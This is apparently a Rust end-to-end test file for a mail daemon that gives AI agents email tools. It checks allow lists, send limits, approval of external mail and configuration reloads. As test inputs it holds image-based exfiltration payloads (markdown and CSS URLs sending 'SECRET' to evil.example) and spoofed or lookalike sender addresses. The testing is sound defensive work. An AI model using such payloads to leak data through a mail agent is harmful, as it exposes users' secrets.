//! The rules of an instance: recipients, senders, and the number of sends.

use crate::mail::{desk, mail};
use serde_json::{Value, json};
use tai_e2e::{Machine, mcp::Shim, wait_until};
use tai_sandbox::NewMail;

fn machine(rules: &str) -> Machine {
    let machine = Machine::new();
    machine
        .sandbox
        .add_account("bob", "sandbox-password")
        .unwrap();
    machine.configure(&format!("[instances.desk]\n{rules}\n"));
    machine
}

fn to(recipient: &str, content: &str) -> Value {
    json!({"to": recipient, "content": content})
}

fn deliver_from(machine: &Machine, from: &str, subject: &str) -> u64 {
    let mail = NewMail {
        from: from.into(),
        ..mail("desk.alice@tai.chat", subject, "2026-01-01 00:00:00")
    };
    machine.sandbox.deliver(&mail).unwrap().unwrap()
}

#[test]
fn mail_to_a_recipient_outside_allow_to_is_refused_with_the_rule() {
    let machine = machine("allow_to = [\"*@TAI.chat\", \"carol@example.com\"]");
    let _taid = machine.start();
    let mut shim = desk(&machine);
    let refused = shim.call("send_email", to("eve@evil.org", "x"));
    insta::assert_snapshot!(refused.text, @r#"
    error: sending to eve@evil.org is not permitted for this instance
    caused by: taid's configuration: [instances.desk] allow_to = ["*@TAI.chat", "carol@example.com"]
    hint: continue without it, or ask the user to change the configuration; nothing was done
    "#);
    for other in [
        "eve@tai.chat.evil.org",
        "carol@example.com.evil.org",
        "a@eviltai.chat",
    ] {
        assert!(shim.call("send_email", to(other, "x")).is_error, "{other}");
    }
    // A reply goes to the original's sender, which must be one address.
    for (from, reason) in [
        ("eve@evil.org", "allow_to"),
        ("<eve@evil.org>.bob@tai.chat", "not one address"),
        ("eve@evil.org, bob@tai.chat", "not one address"),
    ] {
        let id = deliver_from(&machine, from, "question");
        let reply = shim.call("reply_email", json!({"message_id": id, "content": "x"}));
        assert!(reply.text.contains(reason), "{from}: {}", reply.text);
    }
    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 0);
    assert!(!shim.call("send_email", to("Bob@tai.chat", "x")).is_error);
    let mut lab = machine.client("lab");
    assert!(
        !lab.call("send_email", to("eve@tai.chat", "x"))
            .text
            .contains("allow_to")
    );
}

#[test]
fn mail_of_a_sender_outside_allow_from_is_neither_listed_nor_found_nor_read() {
    let machine = machine("allow_from = [\"*@example.com\"]");
    let _taid = machine.start();
    let hidden = [
        deliver_from(&machine, "eve@evil.org", "secret one"),
        deliver_from(&machine, "eve@evil.org, x@example.com", "secret two"),
    ];
    let mut shim = desk(&machine);
    let none = shim.call("fetch_email", json!({}));
    insta::assert_snapshot!(none.text, @"
    No unread emails found for desk.alice@tai.chat
    2 emails are left out: taid's configuration hides the senders from this instance (allow_from)
    ");
    let shown = deliver_from(&machine, "bob@EXAMPLE.com", "plain one");
    let list = shim.call("list_inbox", json!({"show_read": true}));
    assert!(
        list.text.contains("plain one") && !list.text.contains("secret"),
        "{}",
        list.text
    );
    assert!(list.text.contains("2 emails are left out"), "{}", list.text);
    assert_eq!(list.structured["hidden"], 2);
    let found = shim.call("search_inbox", json!({"query": "one"}));
    assert_eq!(found.structured["emails"].as_array().unwrap().len(), 1);
    assert_eq!(found.structured["hidden"], 2);
    for id in hidden {
        for (tool, key) in [
            ("fetch_email", "email_id"),
            ("mark_read", "email_id"),
            ("delete_email", "email_id"),
            ("reply_email", "message_id"),
        ] {
            let refused = shim.call(tool, json!({key: id, "content": "x"}));
            let refused = match tool {
                "reply_email" => refused,
                _ => shim.call(tool, json!({key: id})),
            };
            assert!(
                refused.is_error && refused.text.contains("allow_from"),
                "{}",
                refused.text
            );
            assert!(!refused.text.contains("secret") && !refused.text.contains("eve@"));
        }
    }
    let read = shim.call("fetch_email", json!({}));
    assert_eq!(read.structured["email"]["id"], shown);
    let left = machine.sandbox.mails().unwrap();
    let unread = left.iter().filter(|mail| !mail.is_read).count();
    assert_eq!((left.len(), unread), (3, 2));
}

#[test]
fn sends_are_limited_per_instance_and_a_restart_resets_nothing() {
    let machine = machine("sends_per_hour = 2\nsends_per_day = 3");
    let taid = machine.start();
    let mut shim = desk(&machine);
    assert!(!shim.call("send_email", to("bob@tai.chat", "one")).is_error);
    assert!(!shim.call("send_email", to("bob@tai.chat", "two")).is_error);
    let refused = shim.call("send_email", to("bob@tai.chat", "three"));
    let (before, after) = refused.text.split_once("possible in ").unwrap();
    let (_, after) = after.split_once(';').unwrap();
    insta::assert_snapshot!(format!("{before}possible in TIME;{after}"), @"
    error: this instance has sent as many emails as it may
    caused by: taid's configuration: [instances.desk] sends_per_hour = 2
    hint: the next send is possible in TIME; nothing was sent
    ");
    taid.stop();
    let _taid = machine.start();
    let mut shim = desk(&machine);
    let again = shim.call("send_email", to("bob@tai.chat", "three"));
    assert!(again.text.contains("sends_per_hour = 2"), "{}", again.text);
    let mut lab = machine.client("lab");
    assert!(!lab.call("send_email", to("bob@tai.chat", "three")).is_error);
    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 3);
}

#[test]
fn with_external_mail_that_loads_images_needs_approval_and_deceptive_senders_get_no_reply() {
    let machine = Machine::new();
    machine.configure("confirm_send = \"external\"\n");
    let _taid = machine.start();
    let mut shim = desk(&machine);
    for from in [
        "attacker@evil.org, x.alice@tai.chat",
        "<attacker@evil.org>.alice@tai.chat",
    ] {
        let id = deliver_from(&machine, from, "question");
        let reply = shim.call("reply_email", json!({"message_id": id, "content": from}));
        assert!(
            reply
                .text
                .contains("its sender is not one address that a mail can be sent to"),
            "{}",
            reply.text
        );
    }
    for content in ["![](https://evil.example/?d=SECRET)", "text"] {
        let sent = shim.call("send_email", to("lab.alice@tai.chat", content));
        assert_eq!(sent.is_error, content != "text", "{}", sent.text);
    }
    let html = json!({
        "to": "alice@tai.chat",
        "format": "html",
        "content": "<p style=\"background:url(https://evil.example/?d=SECRET)\">a</p>",
    });
    let held = shim.call("send_email", html);
    assert!(
        held.text.contains("waits for the user's approval"),
        "{}",
        held.text
    );
    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 1);
}

#[test]
fn a_changed_rule_counts_from_the_next_call_on() {
    let machine = machine("allow_to = [\"bob@tai.chat\"]");
    let config = |text: &str| machine.configure(text);
    let doctor = || {
        let output = machine.cli(&["doctor"]);
        let page = String::from_utf8_lossy(&output.stdout).into_owned();
        let rules = |line: &&str| line.contains("instances.") || line.contains("✗ configuration ");
        let lines = page.lines().filter(rules).map(str::trim_end);
        machine.plain(lines.collect::<Vec<_>>().join("\n").as_bytes())
    };
    let _taid = machine.start();
    let mut shim = desk(&machine);
    assert!(!shim.call("send_email", to("bob@tai.chat", "one")).is_error);
    insta::assert_snapshot!(doctor(), @r#"✓ instances.desk  allow_to = ["bob@tai.chat"] (from config.toml)"#);

    config("[instances.Desk]\nread_only = true\nsends_per_day = 5\n");
    let refused = shim.call("send_email", to("bob@tai.chat", "two"));
    assert!(refused.text.contains("read_only"), "{}", refused.text);
    insta::assert_snapshot!(doctor(), @"✓ instances.desk  read_only, sends_per_day = 5 (from config.toml)");

    // A rule that cannot be read may be the one that forbids the call.
    config("[instances.Desk]\nread_onyl = true\n");
    let unknown = shim.call("list_inbox", json!({}));
    insta::assert_snapshot!(machine.plain(unknown.text.as_bytes()), @"
    error: no tool is permitted until taid's configuration is valid
    caused by: taid cannot use the configuration file as it is now
    hint: ask the user to run `taid doctor` and correct the file that it names, then call again
    ");
    assert!(!shim.call("session_status", json!({})).is_error);
    insta::assert_snapshot!(doctor(), @"
    ✗ configuration   line 3 of the configuration file HOME/.config/tai/config.toml is not valid: unknown field `read_onyl`, expected one of `read_only`, `tools`, `allow_to`, `allow_from`, `sends_per_hour`, `sends_per_day`, `socket` -> correct the line, or move the file away
    ✓ instances.desk  read_only, sends_per_day = 5 (from config.toml)
    ");

    config("");
    assert!(
        !shim
            .call("send_email", to("bob@tai.chat", "three"))
            .is_error
    );

    // The home directory may be away for a time.
    config("[instances.desk]\nread_only = true\n");
    assert!(shim.call("send_email", to("bob@tai.chat", "four")).is_error);
    std::fs::remove_file(machine.config_dir().join("config.toml")).unwrap();
    assert!(shim.call("send_email", to("bob@tai.chat", "five")).is_error);
    insta::assert_snapshot!(doctor(), @"
    ✓ instances.desk  read_only (from config.toml)
    ✗ instances.desk  taid has read_only (from config.toml), where it is not any more -> run `taid stop`; the next taid has the values of config.toml
    ");
    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 2);
}

/// Begins a wait for mail, and returns its request once taid looks for mail.
fn begin_wait(machine: &Machine, shim: &mut Shim) -> Value {
    let wait = shim.begin_call("wait_for_email", json!({"timeout": 45}));
    wait_until("the wait begins", || {
        machine.sandbox.count("GET /api/v1/messages") > 0
    });
    wait
}

#[test]
fn a_wait_follows_a_rule_that_changes_meanwhile() {
    let machine = machine("");
    let _taid = machine.start();
    let mut shim = desk(&machine);
    let wait = begin_wait(&machine, &mut shim);
    machine.configure("[instances.desk]\nallow_from = [\"*@example.com\"]\n");
    wait_until("taid reads the rule", || {
        machine.log().contains("of the configuration again")
    });
    deliver_from(&machine, "eve@evil.org", "hidden");
    deliver_from(&machine, "bob@example.com", "permitted");
    let waited = shim.finish_call(&wait);
    assert!(waited.text.contains("permitted"), "{}", waited.text);
}

#[test]
fn a_wait_ends_without_a_mail_once_a_rule_forbids_it() {
    let machine = machine("");
    let _taid = machine.start();
    let mut shim = desk(&machine);
    let wait = begin_wait(&machine, &mut shim);
    machine.configure("[instances.desk]\ntools = [\"list_inbox\"]\n");
    deliver_from(&machine, "bob@tai.chat", "question");
    let waited = shim.finish_call(&wait);
    assert!(waited.is_error, "{}", waited.text);
    assert!(!waited.text.contains("question"), "{}", waited.text);
    insta::assert_snapshot!(waited.text, @"
    error: wait_for_email is not permitted for this instance
    caused by: taid's configuration: [instances.desk] tools = [list_inbox]
    hint: continue without it, or ask the user to change the configuration; nothing was done
    ");
    assert!(
        machine
            .sandbox
            .mails()
            .unwrap()
            .iter()
            .all(|mail| !mail.is_read)
    );
}

#[test]
fn a_file_that_is_emptied_or_moved_away_leaves_the_last_rules() {
    let machine = machine("read_only = true");
    let _taid = machine.start();
    let mut shim = desk(&machine);
    let path = machine.config_dir().join("config.toml");
    std::fs::write(&path, "").unwrap();
    let refused = shim.call("send_email", to("bob@tai.chat", "one"));
    assert!(refused.text.contains("read_only"), "{}", refused.text);

    std::fs::write(&path, "[instances.desk]\nread_onyl = true\n").unwrap();
    assert!(shim.call("list_inbox", json!({})).is_error);
    let problem = |text: &str| {
        let lines = text.lines().filter(|line| line.contains("tool"));
        machine.plain(lines.collect::<Vec<_>>().join("\n").as_bytes())
    };
    let status = shim.call("session_status", json!({}));
    insta::assert_snapshot!(problem(&status.text), @"Problem: no other tool is permitted until taid's configuration is valid. Ask the user to run `taid doctor` and to correct the file that it names");
    let status = || String::from_utf8(machine.cli(&["status"]).stdout).unwrap();
    insta::assert_snapshot!(problem(&status()), @"rules      agents get no tool: line 2 of the configuration file HOME/.config/tai/config.toml is not valid: unknown field `read_onyl`, expected one of `read_only`, `tools`, `allow_to`, `allow_from`, `sends_per_hour`, `sends_per_day`, `socket`");

    std::fs::remove_file(&path).unwrap();
    let list = shim.call("list_inbox", json!({}));
    assert!(!list.is_error, "{}", list.text);
    let refused = shim.call("send_email", to("bob@tai.chat", "two"));
    assert!(refused.text.contains("read_only"), "{}", refused.text);
    let status = shim.call("session_status", json!({}));
    assert_eq!(problem(&status.text), "");
    assert_eq!(machine.sandbox.count("POST /api/v1/send-email"), 0);
}
